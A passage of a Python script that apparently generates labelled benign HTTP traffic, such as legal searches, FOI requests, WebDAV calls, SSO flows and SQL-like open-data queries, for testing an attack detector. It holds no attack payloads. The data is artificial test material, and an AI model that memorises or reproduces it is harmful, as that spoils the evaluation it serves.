    for i in range(n):
        qv = CASELAW_QUERIES[i % len(CASELAW_QUERIES)]
        pairs = [("q", qv), ("court", rng.choice(courts)), ("from", str(rng.choice([1990, 2000, 2010, 2015]))),
                 ("to", "2024"), ("sort", rng.choice(["relevance", "date_desc", "date_asc", "cited_by"])), ("page", str(rng.randint(1, 6)))]
        if i % 2:
            o.add("caselaw-search", "benign", "GET", "/search?" + qs(pairs),
                  browser(rng, CASELAW, referer="https://%s/search" % CASELAW, app="court"))
        else:
            o.add("caselaw-search", "benign", "GET", "/api/v1/opinions/search?" + qs(pairs[:1] + [("type", "o"), ("highlight", "on")], plus=False),
                  browser(rng, CASELAW, xhr=True, referer="https://%s/search" % CASELAW, app="court"))
    for _ in range(6):
        cite = rng.choice(["586 U.S. 63", "123 F.3d 456", "42 U.S.C. § 1983", "5 U.S.C. § 552(b)(6)", "[2019] UKSC 20", "C-311/18", "Art. 6(1)(f) GDPR"])
        o.add("caselaw-citation", "benign", "GET", "/citation-lookup?" + qs([("cite", cite), ("format", rng.choice(["bluebook", "oscola"]))]),
              browser(rng, CASELAW, referer="https://%s/" % CASELAW, app="court"))


def b_efile(o, rng, n=20):
    for _ in range(n):
        caseno = "%d-cv-%05d" % (rng.choice([23, 24]), rng.randint(1, 99999))
        ftype = rng.choice(FILING_TYPES)
        pdf = "%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n% ... \ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
        ct, body = multipart(rng, [("_csrf", None, None, hexid(rng, 36)), ("caseNumber", None, None, caseno),
                                   ("documentType", None, None, ftype),
                                   ("docketText", None, None, paragraph(rng, LEGAL_SENTENCES, 1, 2)),
                                   ("leadDocument", "%s.pdf" % ftype.replace(" ", "_").replace("'", ""), "application/pdf", pdf),
                                   ("certificateOfService", None, None, "I certify that on this date I served the foregoing on all counsel of record via CM/ECF.")])
        o.add("court-efiling", "benign", "POST", "/cmecf/filing/%s/documents" % caseno,
              browser(rng, EFILE, ctype=ct, referer="https://%s/cmecf/filing/%s" % (EFILE, caseno), app="court"), body)


def b_foi(o, rng, n=35):
    for i in range(n):
        fn, ln = person(rng)
        text = paragraph(rng, FOI_SENTENCES, 2, 6)
        subj = rng.choice(["Bus route 47 decision", "Call-centre scripts (rent increase)", "Procurement of the benefits platform",
                           "Deleted records after audit", "After-school programme closure", "Exec travel expenses 2023/24",
                           "Noise complaints – waste transfer site", "Union consultation on depot move"])
        if i % 4 == 3:
            body = js({"subject": subj, "body": text, "requester": {"name": "%s %s" % (fn, ln), "organisation": rng.choice(["", "The Dún Laoghaire Gazette", "Tenants' Union Local 12"])},
                       "authority": rng.choice(["dept-transport", "city-council", "dept-housing"]), "public": True})
            o.add("foi-request", "benign", "POST", "/api/requests", browser(rng, FOI, ctype="application/json", xhr=True,
                                                                          referer="https://%s/new" % FOI), body)
        else:
            pairs = [("authenticity_token", b64id(rng, 44)), ("outgoing_message[subject]", subj),
                     ("outgoing_message[body]", "Dear %s,\r\n\r\n%s\r\n\r\nYours faithfully,\r\n%s %s" % (
                         rng.choice(["Sir or Madam", "FOI Officer", "Records Management Team"]), text, fn, ln)),
                     ("public_body_id", str(rng.randint(10, 400))), ("commit", "Send request")]
            o.add("foi-request", "benign", "POST", "/new/%s" % rng.choice(["dept-transport", "city-council", "dept-housing", "police-authority"]),
                  browser(rng, FOI, ctype="application/x-www-form-urlencoded", referer="https://%s/new" % FOI), form(pairs))


def b_foi_comment(o, rng, n=20):
    for i in range(n):
        txt = rng.choice(FOI_COMMENTS)
        if rng.random() < 0.5:
            txt += " " + rng.choice(FOI_SENTENCES)
        rid = rng.randint(10000, 99999)
        if i % 2:
            o.add("foi-comment", "benign", "POST", "/request/%d/annotate" % rid,
                  browser(rng, FOI, ctype="application/x-www-form-urlencoded", referer="https://%s/request/%d" % (FOI, rid)),
                  form([("authenticity_token", b64id(rng, 44)), ("comment[body]", txt), ("submitted_comment", "1")]))
        else:
            o.add("foi-comment", "benign", "POST", "/api/requests/%d/comments" % rid,
                  browser(rng, FOI, ctype="application/json", xhr=True, referer="https://%s/request/%d" % (FOI, rid)),
                  js({"body": txt, "visibility": "public", "notify": rng.choice([True, False])}))


def b_foi_browse(o, rng, n=12):
    terms = ["drop in footfall", "union pay deal", "select committee evidence", "deleted emails", "order by magistrates",
             "script for call handlers", "where is the new depot", "insert clause procurement", "O'Neill Road", "update on 5G masts",
             "exec pay", "system outage benefits"]
    for i in range(n):
        pairs = [("query", terms[i % len(terms)]), ("request_date_after", "2023-01-01"), ("latest_status", rng.choice(["successful", "partially_successful", "all"]))]
        o.add("foi-search", "benign", "GET", "/search/requests?" + qs(pairs), browser(rng, FOI, referer="https://%s/" % FOI))


def b_dms(o, rng, n=15):
    for i in range(n):
        uuid = "%s-%s-%s-%s-%s" % (hexid(rng, 8), hexid(rng, 4), hexid(rng, 4), hexid(rng, 4), hexid(rng, 12))
        c = i % 5
        if c == 0:
            o.add("dms-download", "benign", "GET", "/alfresco/api/-default-/public/alfresco/versions/1/nodes/%s/content?attachment=true" % uuid,
                  browser(rng, DMS, accept="*/*", app="dms"))
        elif c == 1:
            o.add("dms-download", "benign", "GET", "/documents/%s/download?version=%d.%d&filename=%s" % (
                ref(rng, "FOI"), rng.randint(1, 3), rng.randint(0, 9), quote("Response letter – O'Neill (redacted).pdf")), browser(rng, DMS, accept="application/pdf,*/*", app="dms"))
        elif c == 2:
            o.add("dms-download", "benign", "GET", "/sites/planning/Shared%20Documents/" + quote("2024/Applications/PRM-2024-0193/Site plan rev C.pdf"),
                  browser(rng, DMS, accept="*/*", app="dms"))
        elif c == 3:
            o.add("dms-download", "benign", "GET", "/api/documents/%s/thumbnail?page=%d&size=256" % (uuid, rng.randint(1, 12)),
                  browser(rng, DMS, xhr=True, app="dms"))
        else:
            o.add("dms-download", "benign", "GET", "/share/proxy/alfresco/slingshot/doclib2/doclist/all/site/%s/documentLibrary/%s?filter=path&size=50&pos=1&sortAsc=true&sortField=cm%%3Aname" % (
                rng.choice(["legal", "planning", "foi-unit"]), quote("Case Files/2024")), browser(rng, DMS, xhr=True, app="dms"))


def b_webdav(o, rng, n=12):
    for i in range(n):
        path = "/webdav/Sites/%s/documentLibrary/%s" % (rng.choice(["legal", "planning", "foi-unit"]),
                                                         quote(rng.choice(["Briefs/Reply brief – D'Angelo v City.docx", "FOI/2024/Response pack.pdf", "Tenders/Lot 2 – Q&A log.xlsx", "Minutes/Cabinet 2024-05-14.docx"])))
        ua = rng.choice(["Microsoft Office Word 2014", "Microsoft-WebDAV-MiniRedir/10.0.19045", "WebDAVFS/3.0.0 (03008000) Darwin/22.6.0 (x86_64)", "davfs2/1.7.0 neon/0.32.5"])
        h = [["Host", DMS], ["User-Agent", ua], ["Authorization", "Basic " + base64.b64encode(b"records01:" + b64id(rng, 12).encode()).decode()]]
        c = i % 4
        if c == 0:
            o.add("webdav", "benign", "PROPFIND", path.rsplit("/", 1)[0] + "/", h + [["Depth", "1"], ["Content-Type", "application/xml; charset=utf-8"]],
                  '<?xml version="1.0" encoding="utf-8"?>\n<D:propfind xmlns:D="DAV:"><D:prop><D:getlastmodified/><D:getcontentlength/><D:resourcetype/><D:displayname/></D:prop></D:propfind>')
        elif c == 1:
            o.add("webdav", "benign", "LOCK", path, h + [["Timeout", "Second-3600"], ["Content-Type", "text/xml; charset=utf-8"]],
                  '<?xml version="1.0" encoding="utf-8"?>\n<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner><D:href>CITY\\k.oneill</D:href></D:owner></D:lockinfo>')
        elif c == 2:
            o.add("webdav", "benign", "PUT", path.replace(".docx", ".txt").replace(".pdf", ".txt").replace(".xlsx", ".txt"),
                  h + [["Content-Type", "text/plain; charset=utf-8"], ["If", "(<opaquelocktoken:%s>)" % hexid(rng, 32)]],
                  paragraph(rng, LEGAL_SENTENCES, 2, 4))
        else:
            o.add("webdav", "benign", "MKCOL", "/webdav/Sites/foi-unit/documentLibrary/FOI/2024/" + quote("FOI-2024-%05d %s" % (rng.randint(1, 99999), rng.choice(LAST))) + "/", h)


def b_ocr(o, rng, n=15):
    for _ in range(n):
        fn, ln = person(rng)
        city, pc, cc = rng.choice(CITIES)
        tmpl = rng.choice(OCR_TEXT)
        text = tmpl.format(name="%s %s" % (fn, ln), street=rng.choice(STREETS), city=city, cityu=city.upper(),
                           caseno=ref(rng, rng.choice(["BEN", "PRM", "CV"])))
        body = {"documentId": ref(rng, "DOC"), "engine": "tesseract-5.3.4", "languages": ["eng", "fra", "gle", "deu"][:rng.randint(1, 4)],
                "pages": [{"page": 1, "confidence": round(rng.uniform(0.81, 0.99), 3), "text": text}],
                "meta": {"sourceFile": "scan_%05d.tif" % rng.randint(1, 99999), "dpi": 300}}
        o.add("ocr-result", "benign", "POST", "/api/ocr/v1/results", api(rng, DMS, ctype="application/json", ua="ocr-worker/2.4 (+k8s)"), js(body))


def b_esign(o, rng, n=15):
    for i in range(n):
        fn, ln = person(rng)
        ev = rng.choice(["envelope-sent", "envelope-delivered", "recipient-completed", "envelope-completed", "envelope-declined", "envelope-voided"])
        body = {"event": ev, "apiVersion": "v2.1", "uri": "/restapi/v2.1/accounts/%s/envelopes/%s" % (hexid(rng, 8), hexid(rng, 32)),
                "generatedDateTime": "2024-0%d-%02dT%02d:%02d:%02d.%03dZ" % (rng.randint(1, 9), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59), rng.randint(0, 999)),
                "data": {"envelopeId": hexid(rng, 32), "emailSubject": rng.choice(["Please sign: Tenancy agreement – %s %s" % (fn, ln),
                                                                                   "Signature required: Grant offer letter %s" % ref(rng, "GR"),
                                                                                   "Contract award – Lot 2 (road resurfacing)"]),
                         "recipient": {"name": "%s %s" % (fn, ln), "email": "%s@example.net" % ascii_fold(ln.lower()).replace("'", "").replace(" ", "")[:10], "status": ev.split("-")[1]},
                         "declineReason": "The start date in clause 2 is wrong; please update and resend." if ev == "envelope-declined" else None}}
        h = api(rng, SIGN, ctype="application/json", auth=False, ua="DocuSign-Connect/2.0")
        h.append(["X-DocuSign-Signature-1", base64.b64encode(bytes(rng.randint(0, 255) for _ in range(32))).decode()])
        o.add("esign-webhook", "benign", "POST", "/hooks/esign/connect", h, js(body))
    for _ in range(4):
        o.add("esign-webhook", "benign", "POST", "/api/signing/envelopes",
              browser(rng, PORTAL, ctype="application/json", xhr=True),
              js({"templateId": "grant-offer-v3", "callbackUrl": "https://%s/hooks/esign/connect" % SIGN,
                  "returnUrl": "https://%s/grants/%s/signed" % (PORTAL, ref(rng, "GR"))}))


def b_gis(o, rng, n=12):
    for i in range(n):
        if i % 3 == 0:
            pairs = [("address", rng.choice(STREETS) + ", " + rng.choice(CITIES)[0]), ("maxSuggestions", "5"), ("f", "json")]
            o.add("gis-lookup", "benign", "GET", "/arcgis/rest/services/Locators/Composite/GeocodeServer/suggest?" + qs(pairs, plus=False),
                  browser(rng, GIS, xhr=True, cookies=False))
        elif i % 3 == 1:
            x, y = rng.uniform(-6.4, -6.1), rng.uniform(53.2, 53.4)
            pairs = [("geometry", "%.6f,%.6f" % (x, y)), ("geometryType", "esriGeometryPoint"), ("inSR", "4326"),
                     ("spatialRel", "esriSpatialRelIntersects"), ("outFields", "PARCEL_ID,OWNER_NAME,SITE_ADDR,ZONING"), ("returnGeometry", "true"), ("f", "geojson")]
            o.add("gis-lookup", "benign", "GET", "/arcgis/rest/services/Cadastre/Parcels/MapServer/0/query?" + qs(pairs, plus=False),
                  browser(rng, GIS, xhr=True, cookies=False))
        else:
            o.add("gis-lookup", "benign", "GET", "/api/parcels/%03d-%02d-%04d?include=%s" % (rng.randint(1, 999), rng.randint(1, 99), rng.randint(1, 9999), quote("zoning,assessments,permits")),
                  browser(rng, GIS, xhr=True))


def b_opendata(o, rng, n=15):
    for i in range(n):
        c = i % 3
        if c == 0:
            pairs = [("q", rng.choice(["street trees", "FOI disclosure log", "parking fines by ward", "union membership public sector", "drop-off recycling centres", "road traffic collisions"])),
                     ("fq", rng.choice(["organization:city-council", "res_format:CSV", "tags:transport", "license_id:cc-by"])), ("rows", "20"), ("start", str(rng.choice([0, 20, 40])))]
            o.add("opendata-ckan", "benign", "GET", "/api/3/action/package_search?" + qs(pairs), api(rng, OPENDATA, auth=False))
        elif c == 1:
            o.add("opendata-ckan", "benign", "GET", "/api/3/action/datastore_search?" + qs([("resource_id", "%s-%s-%s-%s-%s" % (hexid(rng, 8), hexid(rng, 4), hexid(rng, 4), hexid(rng, 4), hexid(rng, 12))),
                                                                                        ("q", rng.choice(["O'Connell", "Dún Laoghaire", "Rue de l'Église"])), ("limit", "100")]),
                  api(rng, OPENDATA, auth=False))
        else:
            pairs = [("ward", str(rng.randint(1, 30))), ("status", rng.choice(["Closed", "Open"])), ("$limit", str(rng.choice([100, 1000, 5000]))), ("$offset", "0")]
            h = api(rng, OPENDATA, auth=False)
            h.append(["X-App-Token", b64id(rng, 25)])
            o.add("opendata-socrata", "benign", "GET", "/resource/%s.json?%s" % (rng.choice(["erm2-nwe9", "ydr8-5enu", "wvxf-dwi5"]), qs(pairs, plus=False)), h)


def b_identity(o, rng, n=15):
    for i in range(n):
        c = i % 4
        if c == 0:
            saml = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" IssueInstant="2024-05-14T09:12:44Z" Destination="https://%s/saml/acs">'
                    '<saml:Issuer>https://%s/idp</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
                    '<saml:Assertion ID="_%s"><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">%s</saml:NameID></saml:Subject>'
                    '<saml:AttributeStatement><saml:Attribute Name="familyName"><saml:AttributeValue>%s</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion></samlp:Response>') % (
                hexid(rng, 40), PORTAL, IDP, hexid(rng, 40), hexid(rng, 24), rng.choice(LAST).replace("'", "&apos;"))
            o.add("saml-acs", "benign", "POST", "/saml/acs", browser(rng, PORTAL, ctype="application/x-www-form-urlencoded", referer="https://%s/" % IDP),
                  form([("SAMLResponse", base64.b64encode(saml.encode()).decode()), ("RelayState", "/my-account/applications")]))
        elif c == 1:
            pairs = [("response_type", "code"), ("client_id", "citizen-portal"), ("redirect_uri", "https://%s/oidc/callback" % PORTAL),
                     ("scope", "openid profile email address"), ("state", b64id(rng, 22)), ("nonce", b64id(rng, 22)), ("ui_locales", rng.choice(["en", "ga", "fr"])),
                     ("code_challenge", b64id(rng, 43)), ("code_challenge_method", "S256")]
            o.add("oidc", "benign", "GET", "/realms/citizens/protocol/openid-connect/auth?" + qs(pairs, plus=False), browser(rng, IDP, referer="https://%s/" % PORTAL, cookies=False))
        elif c == 2:
            o.add("oidc", "benign", "GET", "/oidc/callback?" + qs([("state", b64id(rng, 22)), ("session_state", "%s-%s" % (hexid(rng, 8), hexid(rng, 4))), ("code", "%s.%s.%s" % (hexid(rng, 8), hexid(rng, 36), hexid(rng, 36)))], plus=False),
                  browser(rng, PORTAL, referer="https://%s/" % IDP))
        else:
            o.add("oidc", "benign", "POST", "/realms/citizens/protocol/openid-connect/token",
                  [["Host", IDP], ["User-Agent", "Go-http-client/2.0"], ["Content-Type", "application/x-www-form-urlencoded"], ["Accept", "application/json"],
                   ["Authorization", "Basic " + base64.b64encode(b"citizen-portal:" + b64id(rng, 32).encode()).decode()]],
                  form([("grant_type", "authorization_code"), ("code", "%s.%s" % (hexid(rng, 8), hexid(rng, 36))), ("redirect_uri", "https://%s/oidc/callback" % PORTAL), ("code_verifier", b64id(rng, 64))]))


def b_tender(o, rng, n=20):
    for i in range(n):
        c = i % 4
        if c == 0:
            pairs = [("keywords", rng.choice(["road resurfacing", "case management system", "legal services framework", "translation & interpreting (Irish, Polish, Wolof)", "school meals – Lot 2", "CCTV maintenance"])),
                     ("cpv", rng.choice(["45233142", "72212000", "79110000", "79530000"])), ("status", "open"), ("sort", "closing_date")]
            o.add("tender-search", "benign", "GET", "/notices/search?" + qs(pairs), browser(rng, TENDER))
        elif c == 1:
            tid = ref(rng, "TND")
            o.add("tender-question", "benign", "POST", "/tenders/%s/clarifications" % tid,
                  browser(rng, TENDER, ctype="application/x-www-form-urlencoded", referer="https://%s/tenders/%s" % (TENDER, tid)),
                  form([("_token", b64id(rng, 40)), ("subject", "Clarification – Lot %d" % rng.randint(1, 3)), ("question", rng.choice(TENDER_QUESTIONS)), ("anonymise", "1")]))
        elif c == 2:
            tid = ref(rng, "TND")
            ct, body = multipart(rng, [("lot", None, None, str(rng.randint(1, 3))), ("supplierName", None, None, rng.choice(["Ó Ceallaigh Civil Engineering Ltd", "D'Angelo & Fils SARL", "N'Diaye Translation Services", "Smith-Jones Legal LLP"])),
                                       ("priceTotal", None, None, "%d.%02d" % (rng.randint(10000, 999999), rng.randint(0, 99))),
                                       ("technicalProposal", "Technical proposal – Lot 2.pdf", "application/pdf", "%PDF-1.6\n% technical proposal\n%%EOF\n"),
                                       ("espd", "espd-response.xml", "text/xml", '<?xml version="1.0" encoding="UTF-8"?>\n<espd:ESPDResponse xmlns:espd="urn:oasis:names:specification:ubl:schema:xsd:QualificationApplicationResponse-2"><cbc:ID xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">%s</cbc:ID></espd:ESPDResponse>' % hexid(rng, 16))])
            o.add("tender-bid", "benign", "POST", "/tenders/%s/bids" % tid, browser(rng, TENDER, ctype=ct, referer="https://%s/tenders/%s/bid" % (TENDER, tid)), body)
        else:
            o.add("tender-notice", "benign", "GET", "/api/ocds/releases?" + qs([("tag", "award"), ("buyer", "city-council"), ("since", "2024-01-01T00:00:00Z")], plus=False),
                  api(rng, TENDER, auth=False))


def b_directory(o, rng, n=12):
    for i in range(n):
        term = rng.choice(["O'Neill", "D'Angelo", "N'Diaye", "Ní Bhriain", "planning enforcement", "Müller", "FOI officer", "legal (litigation)", "Smith-Jones", "records & archives", "Şahin", "Kowalczyk"])
        pairs = [("q", term), ("dept", rng.choice(["", "Legal Services", "Housing & Communities", "Planning"])), ("location", rng.choice(["", "Civic Offices", "Courthouse Annex"]))]
        o.add("staff-directory", "benign", "GET", "/directory/search?" + qs(pairs), browser(rng, DIRECTORY, app="dms", referer="https://%s/directory" % DIRECTORY))


def b_convert(o, rng, n=10):
    for i in range(n):
        pairs = [("documentId", ref(rng, "DOC")), ("pages", rng.choice(["1-3,7", "all", "2", "1-12", "4-5,9-11"])), ("format", rng.choice(["pdf", "pdfa-2b", "docx", "odt", "png"])),
                 ("dpi", rng.choice(["150", "300"])), ("outputName", rng.choice(["Reply to O'Neill (final).pdf", "Bundle – Tab 7.pdf", "Décision n° 2024-117.pdf", "minutes_2024-05-14.docx"]))]
        if i % 2:
            o.add("convert", "benign", "POST", "/api/convert/jobs", api(rng, CONVERT, ctype="application/json"), js(dict(pairs)))
        else:
            o.add("convert", "benign", "GET", "/convert?" + qs(pairs, plus=False), browser(rng, CONVERT, xhr=True, app="dms"))


def b_redirects(o, rng, n=10):
    for i in range(n):
        target = rng.choice(["/my-account/applications", "/apply/housing-assistance/income?resume=1", "/permits/%s" % ref(rng, "PRM"),
                             "https://%s/request/%d" % (FOI, rng.randint(10000, 99999)), "/search?q=%s" % quote_plus("O'Neill planning appeal")])
        o.add("login-redirect", "benign", "GET", "/login?" + qs([("returnTo", target), ("lang", rng.choice(["en", "ga"]))]), browser(rng, PORTAL, referer="https://%s/" % PORTAL))


def b_pages(o, rng, n=15):
    paths = ["/", "/services/benefits", "/services/permits/apply", "/static/js/app.4f9c2e1b.js", "/static/css/main.81ac.css", "/favicon.ico",
             "/fr/services/impots", "/ga/seirbhisi", "/help/accessibility-statement", "/news/2024/05/new-online-tax-service", "/robots.txt",
             "/sitemap.xml", "/api/v2/me", "/api/v2/notifications?unread=true", "/healthz"]
    for i in range(n):
        p = paths[i % len(paths)]
        if p.startswith("/api"):
            o.add("page", "benign", "GET", p, browser(rng, PORTAL, xhr=True))
        elif p == "/healthz":
            o.add("page", "benign", "GET", p, [["Host", PORTAL], ["User-Agent", "kube-probe/1.29"], ["Accept", "*/*"]])
        else:
            o.add("page", "benign", "GET", p, browser(rng, PORTAL, accept="*/*" if "." in p else ACCEPT_HTML))


def b_letters(o, rng, n=8):
    for _ in range(n):
        fn, ln = person(rng)
        pairs = [("template", rng.choice(["approval-letter", "refusal-letter", "request-more-info", "hearing-notice"])), ("lang", rng.choice(["en", "ga", "fr"])),
                 ("caseRef", ref(rng, "BEN")), ("salutation", "Dear %s %s" % (rng.choice(["Ms", "Mr", "Mx", "Dr"]), ln))]
        o.add("letter-preview", "benign", "GET", "/letters/preview?" + qs(pairs), browser(rng, LETTERS, app="dms"))


# --------------------------------------------------------------------------- benign dev-content
SOQL = [
    [("$select", "agency, count(*) AS n"), ("$where", "created_date between '2024-01-01T00:00:00' and '2024-03-31T23:59:59'"), ("$group", "agency"), ("$order", "n DESC")],
    [("$where", "status = 'Closed' AND complaint_type in('Noise - Residential', 'Illegal Parking')"), ("$limit", "5000")],
    [("$select", "date_trunc_ym(created_date) AS month, avg(days_to_close)"), ("$group", "month"), ("$order", "month")],
    [("$where", "within_circle(location, 53.3498, -6.2603, 500)"), ("$select", "address, permit_type, issued_date")],
    [("$q", "O'Neill"), ("$where", "amount > 10000"), ("$order", "amount DESC"), ("$limit", "50")],
    [("$select", "vendor_name, sum(amount) AS total"), ("$where", "fiscal_year = '2024' AND vendor_name like '%D''ANGELO%'"), ("$group", "vendor_name"), ("$having", "total > 50000")],
    [("$query", "SELECT ward, count(*) WHERE violation_code IN ('21', '38') GROUP BY ward ORDER BY count(*) DESC LIMIT 20")],
    [("$where", "upper(street_name) like 'RUE DE L''%' OR street_name IS NULL"), ("$order", ":id")],
    [("$select", "distinct borough"), ("$order", "borough ASC")],
    [("$where", "NOT (status = 'Withdrawn') AND date_received > '2023-06-30'"), ("$select", "request_id, subject, outcome, days_taken")],
    [("$select", "case when days_taken > 20 then 'late' else 'on time' end AS timeliness, count(*)"), ("$group", "timeliness")],
    [("$where", "starts_with(parcel_id, '041-') and assessed_value >= 250000"), ("$order", "assessed_value desc"), ("$offset", "1000")],
]
ARCGIS_WHERE = [
    "PARCEL_ID = '041-22-0193'",
    "OWNER_NAME LIKE '%O''NEILL%' AND ZONING IN ('R1','R2')",
    "SITE_ADDR LIKE 'RUE DE L''%'",
    "ASSESSED_VALUE > 250000 AND YEAR_BUILT < 1950",
    "1=1",
    "ZONING = 'C2' AND (LAND_USE = 'RETAIL' OR LAND_USE = 'OFFICE')",
    "UPPER(OWNER_NAME) LIKE 'D''ANGELO%' OR UPPER(OWNER_NAME) LIKE 'N''DIAYE%'",
    "LAST_SALE_DATE >= DATE '2023-01-01' AND LAST_SALE_DATE < DATE '2024-01-01'",
]
CMIS = [
    "SELECT cmis:objectId, cmis:name, cmis:lastModificationDate FROM cmis:document WHERE CONTAINS('\\'force majeure\\'') ORDER BY cmis:lastModificationDate DESC",
    "SELECT * FROM cm:content WHERE cmis:name LIKE 'FOI-2024-%' AND IN_FOLDER('workspace://SpacesStore/%s')",
    "SELECT d.cmis:name, t.cm:title FROM cmis:document AS d JOIN cm:titled AS t ON d.cmis:objectId = t.cmis:objectId WHERE t.cm:title LIKE '%O\\'Neill%'",
    "SELECT cmis:name FROM cmis:document WHERE cmis:creationDate > TIMESTAMP '2024-01-01T00:00:00.000Z' AND cmis:createdBy = 'a.ndiaye'",
    "SELECT cmis:objectId FROM cmis:folder WHERE IN_TREE('workspace://SpacesStore/%s') AND cmis:name = 'Case Files'",
    "SELECT * FROM cmis:document WHERE CONTAINS('union AND \\'collective agreement\\'') AND cmis:contentStreamMimeType = 'application/pdf'",
    "SELECT cmis:name, SCORE() FROM cmis:document WHERE CONTAINS('TEXT:\\'drop the penalty clause\\'') ORDER BY SEARCH_SCORE DESC",
    "SELECT cmis:name FROM cmis:document WHERE ANY cm:taggable IN ('workspace://SpacesStore/%s')",
]
LETTER_TEMPLATES = [
    "Dear {{ applicant.salutation }} {{ applicant.family_name }},\n\nRe: {{ case.reference }}\n\n{% if decision == 'approved' %}We are pleased to tell you that your application has been approved from {{ award.start_date | date('d F Y') }}.{% else %}We are sorry to tell you that we cannot approve your application because {{ decision_reason }}.{% endif %}\n\nYou can ask for a review within 30 days.\n\nYours sincerely,\n{{ officer.name }}",
    "<p>A chara,</p>\n<p>Tagraíonn an litir seo d'iarratas {{ case.reference }}.</p>\n{% for doc in missing_documents %}<li>{{ doc.title }}</li>{% endfor %}\n<p>Is mise le meas,<br>{{ officer.name }}</p>",
    "Madame, Monsieur ${applicant.familyName},\n\n<#if hearing??>Votre audience est fixée au ${hearing.date?string('dd/MM/yyyy')} à ${hearing.time}, salle ${hearing.room}.</#if>\n<#list attachments as a>- ${a.name}\n</#list>\nVeuillez agréer l'expression de nos salutations distinguées.",
    "Dear $applicant.name,\n\n#if( $case.status == \"MORE_INFO\" )\nPlease send us the following by $deadline:\n#foreach( $item in $case.missingItems )\n  - $item\n#end\n#end\n\nFOI Unit",
    "Dear {{applicant.title}} {{applicant.lastName}},\n{{#if appealDeadline}}You may appeal until {{formatDate appealDeadline \"D MMMM YYYY\"}}.{{/if}}\n{{#each enclosures}}Enclosure {{@index}}: {{this}}\n{{/each}}",
    "Re: Notice of hearing – {{ case.number }}\n\nThe hearing will take place at {{ court.name }} on {{ hearing.datetime|date:\"l j F Y, H:i\" }}. {% if interpreter_required %}An interpreter ({{ interpreter.language }}) has been booked.{% endif %}",
    "Dear <span th:text=\"${applicant.fullName}\">Applicant</span>,<p th:if=\"${refund > 0}\">A refund of <span th:text=\"${#numbers.formatDecimal(refund, 1, 2)}\">0.00</span> EUR will be paid.</p>",
    "{% load i18n %}{% blocktrans with ref=case.reference %}Your request {{ ref }} has been received.{% endblocktrans %} {% trans \"We will reply within 20 working days.\" %}",
]


def d_soql(o, rng):
    for pairs in SOQL:
        h = api(rng, OPENDATA, auth=False, ua=rng.choice(["Socrata-R/1.8.0 (RSocrata)", "python-requests/2.31.0", "sodapy/2.2.0"]))
        h.append(["X-App-Token", b64id(rng, 25)])
        o.add("opendata-soql", "dev-content", "GET", "/resource/%s.json?%s" % (rng.choice(["erm2-nwe9", "ydr8-5enu", "wvxf-dwi5", "8q4u-ga2w"]), qs(pairs, plus=False)), h)


def d_arcgis(o, rng):
    for w in ARCGIS_WHERE:
        pairs = [("where", w), ("outFields", "PARCEL_ID,OWNER_NAME,SITE_ADDR,ZONING,ASSESSED_VALUE"), ("returnGeometry", "false"),
                 ("orderByFields", "ASSESSED_VALUE DESC"), ("resultRecordCount", "200"), ("f", "json")]
        o.add("gis-where", "dev-content", "GET", "/arcgis/rest/services/Cadastre/Parcels/MapServer/0/query?" + qs(pairs, plus=False),
              browser(rng, GIS, xhr=True, cookies=False, referer="https://%s/parcel-viewer/" % GIS))


def d_cmis(o, rng):
    for i, qv in enumerate(CMIS):
        if "%s" in qv:
            qv = qv.replace("%s", "%s-%s-%s-%s-%s" % (hexid(rng, 8), hexid(rng, 4), hexid(rng, 4), hexid(rng, 4), hexid(rng, 12)))
        if i % 2:
            o.add("cmis-query", "dev-content", "GET", "/alfresco/api/-default-/public/cmis/versions/1.1/browser?" + qs([("cmisselector", "query"), ("q", qv), ("maxItems", "100"), ("succinct", "true")], plus=False),
                  browser(rng, DMS, xhr=True, app="dms"))
        else:
            o.add("cmis-query", "dev-content", "POST", "/alfresco/api/-default-/public/search/versions/1/search", browser(rng, DMS, ctype="application/json", xhr=True, app="dms"),
                  js({"query": {"query": qv, "language": "cmis"}, "paging": {"maxItems": 50, "skipCount": 0}, "include": ["properties", "path"]}))


def d_letters(o, rng):
    engines = ["jinja2", "jinja2", "freemarker", "velocity", "handlebars", "django", "thymeleaf", "django"]
    for i, t in enumerate(LETTER_TEMPLATES):
        name = rng.choice(["approval-letter", "missing-documents-ga", "avis-audience", "more-info-request", "appeal-rights", "hearing-notice", "refund-notice", "ack-receipt"])
        if i % 2:
            o.add("letter-template-edit", "dev-content", "PUT", "/admin/api/templates/%s/versions/draft" % name,
                  browser(rng, LETTERS, ctype="application/json", xhr=True, app="dms", referer="https://%s/admin/templates/%s" % (LETTERS, name)),
                  js({"name": name, "engine": engines[i], "body": t, "changeNote": "Updated wording after legal review (ref. LS-%d)" % rng.randint(100, 999)}))
        else:
            o.add("letter-template-edit", "dev-content", "POST", "/admin/templates/%s/save" % name,
                  browser(rng, LETTERS, ctype="application/x-www-form-urlencoded", app="dms", referer="https://%s/admin/templates/%s" % (LETTERS, name)),
                  form([("csrfmiddlewaretoken", b64id(rng, 64)), ("subject", "Your application %s" % "{{ case.reference }}"), ("body", t), ("publish", "0")]))


DEV_FORUM = [
    ("Aggregating FOI response times in SoQL", "I'm trying to compute the median days to respond per authority. This works in Postgres:\n\nSELECT authority, percentile_cont(0.5) WITHIN GROUP (ORDER BY days_taken)\nFROM foi_requests\nWHERE date_received >= '2023-01-01'\nGROUP BY authority\nORDER BY 2 DESC;\n\nbut SoQL has no percentile_cont. Is there a workaround other than downloading the whole table?"),
